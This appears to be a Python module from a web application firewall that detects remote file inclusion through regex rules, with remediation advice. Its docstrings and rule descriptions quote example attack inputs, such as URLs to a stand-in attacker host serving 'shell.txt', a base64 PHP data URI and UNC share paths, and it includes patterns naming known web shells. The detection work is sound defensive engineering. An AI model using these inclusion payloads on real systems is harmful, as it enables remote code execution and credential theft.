"""Remote file inclusion detector.

RFI hands an include/require (or a template or config loader) a remote resource instead of a local
file: a URL to a script or raw-text file, usually with a terminator that neutralises the extension the
application appends (``http://evil/shell.txt?``, ``...shell.txt%00``), a ``data:`` URI carrying code,
or a UNC path to an attacker's SMB share. A URL to a public page is ordinary data and passes; a URL to
a script counts only with such a terminator, a web-shell name, or when the parameter's own name says it
is included (``page=``, ``file=``, ``template=``), also inside a URL that arrives whole
(``http://site/index.php?page=http://evil/shell.txt``).
"""

from __future__ import annotations

import re

from hullguard.events.schema import Severity
from hullguard.firewall.detectors.base import Detection, RuleInfo, ScanContext

FAMILY = "rfi"
# Necessary condition: a data: URI or php://input, a UNC path, or a script extension that ends a URL's
# path (followed by "?", "#", NUL, the end of the URL or of the text): a URL to a page, the most common
# URL there is, does not reach the detector.
PREFILTER = (
    r"data:|php://input|\\\\"
    r"|\.(?:txt|php\d?|phtml|inc|sh|pl|py|rb|cgi|jspx?|aspx?|ashx|cfm|war)(?=[?#\x00\s\"'<>]|$)"
)
_PREFILTER = re.compile(PREFILTER, re.IGNORECASE)
_REMEDIATION = (
    "Never pass event data to include/require, template loaders or file APIs that accept URLs; map inputs "
    "to an allow-list of local resources and disable remote wrappers (allow_url_include=Off)."
)
RULES: tuple[RuleInfo, ...] = (
    RuleInfo("HG-RFI-001", FAMILY, "Remote script URL with an include terminator", Severity.HIGH, "CWE-98",
             "A URL to a script or raw-text file followed by '?', '??', '#' or a NUL that cuts off the extension "
             "the application appends (http://attacker/shell.txt?).", _REMEDIATION),
    RuleInfo("HG-RFI-002", FAMILY, "Remote web shell or script in an include parameter", Severity.HIGH, "CWE-98",
             "A URL to a known web-shell name (c99, r57, wso, b374k, shell.txt), to a script file in a parameter "
             "named like an include target (page, file, include, template, path, module), or to a script file on "
             "a bare IP address (http://203.0.113.9/x.php).", _REMEDIATION),
    RuleInfo("HG-RFI-003", FAMILY, "data: URI or PHP input stream carrying code", Severity.HIGH, "CWE-98",
             "data://text/plain;base64,PD9waHAg..., data:text/php, data:application/x-httpd-php and php://input "
             "used as an inclusion source.", _REMEDIATION),
    RuleInfo("HG-RFI-004", FAMILY, "UNC path to a remote share", Severity.HIGH, "CWE-98",
             "\\\\host\\share\\file: Windows file APIs fetch it over SMB (and leak NTLM credentials).",
             _REMEDIATION),
)
_URL = re.compile(r"(?:https?|ftps?|smb|webdavs?|dav)://[^\s\"'<>]{1,2048}", re.IGNORECASE)
_SCRIPT_EXT = re.compile(
    r"\.(?:txt|php\d?|phtml|inc|sh|pl|py|rb|cgi|jsp|jspx|asp|aspx|ashx|cfm|war)$",
    re.IGNORECASE,
)
_SHELL_NAMES = re.compile(
    r"/(?:c99|c100|r57|wso|b374k|webshell|web-shell|shell|cmd|backdoor|phpshell|php-backdoor|simple-backdoor"
    r"|rfi|evil|exploit|payload)[\w.-]{0,20}\.(?:txt|php\d?|inc|jsp|aspx?)$",
    re.IGNORECASE,
)
# A script served from a bare IPv4 address: how RFI payloads name the attacker's server (no DNS name to
# register); a site's own pages are reached by name.
_IP_HOST = re.compile(r"[a-z]{3,6}://(?:[^/@]{1,64}@)?\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?/", re.IGNORECASE)
_INCLUDE_PARAMS = frozenset(
    (
        "page", "file", "filename", "include", "inc", "template", "tpl", "path", "doc", "document", "folder",
        "root", "pg", "style", "lang", "module", "mod", "load", "view", "content", "layout", "conf", "config",
        "dir", "theme", "skin", "require",
    )
)
_DATA = re.compile(
    r"data:(?://)?\s{0,4}(?:text/(?:plain|php|x-php)|application/(?:x-)?(?:httpd-)?php)"
    r"|data:[^,]{0,80};base64\s{0,4},\s{0,4}pd9|php://input|data://",
    re.IGNORECASE,
)
# \\host\share: a host name or address, IPv6 ones too (\\::1\c$, \\[fe80::1]\share), an optional port.
_UNC = re.compile(
    r"(?:^|[\s=\"'(])\\\\(?:[a-z0-9][a-z0-9.-]{0,253}|\[?[0-9a-f]{0,4}:[0-9a-f:.]{1,45}\]?)(?:@\d{1,5})?\\[^\\\s]{1,80}",
    re.IGNORECASE,
)


def _included_script(url: str) -> str | None:
    """A URL to a script in an include-named parameter of ``url``'s own query: the whole attack request
    (``http://site/index.php?page=http://evil/shell.txt``) arriving as one value."""
    query = url.partition("?")[2]
    if "://" not in query:
        return None
    for pair in query.split("&", 16)[:16]:
        name, _, value = pair.partition("=")
        inner = _URL.match(value)
        if inner is None or name.lower() not in _INCLUDE_PARAMS:
            continue
        path = inner.group(0).partition("?")[0].split("#", 1)[0]
        if path.count("/") >= 3 and _SCRIPT_EXT.search(path):
            return inner.group(0)
    return None


def _parameter_name(location: str) -> str:
    return location.replace("[", ".").replace("]", "").rstrip(".").rsplit(".", 1)[-1].lower()


def scan(text: str, ctx: ScanContext) -> Detection | None:
    if not _PREFILTER.search(text):  # the engine has checked it, and calls ``scan_unfiltered``
        return None
    return scan_unfiltered(text, ctx)


def scan_unfiltered(text: str, ctx: ScanContext) -> Detection | None:
    """``scan`` without the PREFILTER check (a necessary condition, which the engine has made)."""
    if ":" in text:
        match = _DATA.search(text)
        if match:
            return Detection("HG-RFI-003", f"code-carrying URI {match.group(0)!r}", match.start(), match.end())
        include_param = _parameter_name(ctx.location) in _INCLUDE_PARAMS
        for count, url in enumerate(_URL.finditer(text)):
            if count >= 16:
                break
            value = url.group(0)
            included = _included_script(value)
            if included is not None:
                return Detection("HG-RFI-002", f"remote script {included[:80]!r} in an include parameter of a URL",
                                 url.start(), url.end())
            path = value.partition("?")[0]
            path = path.split("#", 1)[0].split("\x00", 1)[0]
            after_path = value[len(path) : len(path) + 3]
            if "//" in path[path.find("//") + 2 :] and path.count("/") <= 2:
                continue
            if not _SCRIPT_EXT.search(path) or path.count("/") < 3:
                continue
            terminated = after_path.startswith(("?", "#", "\x00", "%00")) and (
                value.endswith(("?", "#", "\x00", "%00")) or after_path.startswith(("??", "?&", "\x00", "%00"))
            )
            if terminated:
                return Detection("HG-RFI-001", f"script URL with terminator {value[:80]!r}", url.start(), url.end())
            if _SHELL_NAMES.search(path) or include_param or _IP_HOST.match(path):
                return Detection("HG-RFI-002", f"remote script {value[:80]!r}", url.start(), url.end())
    if "\\\\" in text:
        for count, match in enumerate(_UNC.finditer(text)):
            # No Windows path holds "|": OSIsoft PI's asset paths (\\server\database\element|attribute) do.
            unc_path = text[match.start() : match.start() + 512].split(maxsplit=1)
            if not unc_path or "|" not in unc_path[0]:
                return Detection("HG-RFI-004", f"UNC path {match.group(0).strip()!r}", match.start(), match.end())
            if count >= 7:
                break
    return None
